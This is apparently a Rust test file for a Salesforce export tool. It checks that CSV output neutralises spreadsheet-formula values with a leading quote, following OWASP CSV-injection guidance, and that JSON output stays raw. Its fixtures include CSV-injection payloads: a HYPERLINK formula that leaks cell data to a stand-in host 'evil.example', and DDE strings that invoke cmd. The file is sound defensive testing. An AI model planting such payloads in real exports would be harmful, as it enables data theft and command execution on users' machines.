//! `collect -f csv` and spreadsheets (OWASP "CSV injection"): text from the org that a
//! spreadsheet would run as a formula is written with a leading `'` unless `--csv-raw`; numbers
//! sfconn writes itself are never prefixed; json and ndjson stay raw.

use std::collections::BTreeMap;
use std::path::Path;

use sfconn_collect::output::{CsvCells, Format, OutputOptions, open_sink_to_writer, open_sink_with};
use sfconn_collect::snapshot::*;

use crate::common;
use common::{acme_header, blank_user, subscription};
use sfconn_testkit::SharedBuffer;

/// A formula-looking value for each character OWASP lists, and names that merely look so.
const HOSTILE: [(&str, &str); 8] = [
    ("equals", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
    ("a name with dashes", "-Ann-"),
    ("a title with a dash", "- Consultant"),
];

fn user(index: usize, value: &str) -> User {
    User {
        name: Some(value.into()),
        title: Some(value.into()),
        company_name: Some(value.into()),
        department: Some("R&D".into()),
        last_login_at: Some("2024-01-14T08:00:00Z".into()),
        ..blank_user(&format!("0050X000000000{index}AAA"), &format!("u{index}@acme.com"))
    }
}

/// Writes a csv directory whose org text is hostile, and a subscription whose counts are
/// negative numbers (as the org may report them).
fn write(target: &Path, csv_cells: CsvCells) -> Vec<User> {
    let mut pool = subscription("1000X0000000001AAA", SubscriptionSource::UserLicense, "=Salesforce");
    pool.label = Some("@Salesforce".into());
    pool.total = Some(-1);
    pool.used = Some(-3);
    let profile = Profile {
        id: "00e0X0000000001AAA".into(),
        name: "+Admin".into(),
        user_type: Some("Standard".into()),
        user_license_id: None,
        description: Some("-; not a formula".into()),
    };
    let mut header = acme_header(vec![pool], vec![profile]);
    header.organization.name = "=Acme".into();
    let users: Vec<User> = HOSTILE.iter().enumerate().map(|(i, (_, value))| user(i, value)).collect();
    let mut tally = UserTally::default();
    let mut sink = open_sink_with(Format::Csv, target, OutputOptions { csv_cells }).unwrap();
    sink.begin(&header).unwrap();
    for user in &users {
        tally.count_written(user);
        sink.user(user).unwrap();
    }
    sink.finish(&tally.summary(1, 1, None, None), &[]).unwrap();
    users
}

/// The rows of a csv file, each a map from column name to cell (as a spreadsheet reads them).
fn rows(path: &Path) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|record| headers.iter().zip(record.unwrap().iter()).map(|(h, v)| (h.into(), v.into())).collect())
        .collect()
}

#[test]
fn each_formula_character_is_neutralised_with_a_quote_and_the_value_kept() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("out");
    write(&target, CsvCells::default());
    let users = rows(&target.join("users.csv"));
    assert_eq!(users.len(), HOSTILE.len());
    for ((what, value), row) in HOSTILE.iter().zip(&users) {
        for column in ["name", "title", "company_name"] {
            assert_eq!(row[column], format!("'{value}"), "{what}: {column}");
        }
        // Ordinary text and what sfconn formats itself is untouched.
        assert_eq!(row["department"], "R&D", "{what}");
        assert_eq!(row["last_login_at"], "2024-01-14T08:00:00Z", "{what}");
        assert_eq!(row["active"], "true", "{what}");
        assert_eq!(row["account_kind"], "other", "{what}");
    }

    let pools = rows(&target.join("subscriptions.csv"));
    assert_eq!(pools[0]["name"], "'=Salesforce");
    assert_eq!(pools[0]["label"], "'@Salesforce");
    // Numbers are written by sfconn as numbers: never prefixed, even when negative.
    assert_eq!((pools[0]["total"].as_str(), pools[0]["used"].as_str()), ("-1", "-3"));
    assert_eq!(pools[0]["source"], "UserLicense");

    let profiles = rows(&target.join("profiles.csv"));
    assert_eq!(profiles[0]["name"], "'+Admin");
    assert_eq!(profiles[0]["description"], "'-; not a formula");
}

#[test]
fn the_raw_file_holds_the_quote_inside_a_properly_quoted_cell() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("out");
    write(&target, CsvCells::Neutralised);
    let text = std::fs::read_to_string(target.join("users.csv")).unwrap();
    // The equals value holds quotes and a comma: the csv writer quotes it after the prefix.
    assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#), "{text}");
    assert!(text.contains("'-Ann-"), "{text}");
    assert!(!text.contains(",=HYPERLINK") && !text.contains(",-Ann-"), "{text}");
}

#[test]
fn csv_raw_writes_the_values_as_they_are() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("out");
    write(&target, CsvCells::Raw);
    for ((what, value), row) in HOSTILE.iter().zip(rows(&target.join("users.csv"))) {
        assert_eq!(row["title"], *value, "{what}");
    }
    assert_eq!(rows(&target.join("subscriptions.csv"))[0]["name"], "=Salesforce");
    assert_eq!(rows(&target.join("profiles.csv"))[0]["name"], "+Admin");
}

#[test]
fn the_json_beside_the_csv_files_and_the_other_formats_stay_raw() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("out");
    write(&target, CsvCells::Neutralised);
    let document: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(target.join("snapshot.json")).unwrap()).unwrap();
    assert_eq!(document["organization"]["name"], "=Acme");
    assert_eq!(document["subscriptions"][0]["name"], "=Salesforce");

    for format in [Format::Json, Format::Ndjson] {
        let buffer = SharedBuffer::default();
        let mut sink = open_sink_to_writer(format, Box::new(buffer.clone())).unwrap();
        let mut header = acme_header(vec![], vec![]);
        header.organization.name = "=Acme".into();
        sink.begin(&header).unwrap();
        let hostile = user(0, HOSTILE[0].1);
        sink.user(&hostile).unwrap();
        let mut tally = UserTally::default();
        tally.count_written(&hostile);
        sink.finish(&tally.summary(0, 1, None, None), &[]).unwrap();
        let text = buffer.text();
        assert!(
            text.contains(r#""title": "=HYPERLINK"#) || text.contains(r#""title":"=HYPERLINK"#),
            "{format}: {text}"
        );
        assert!(!text.contains("'="), "{format}: {text}");
    }
}
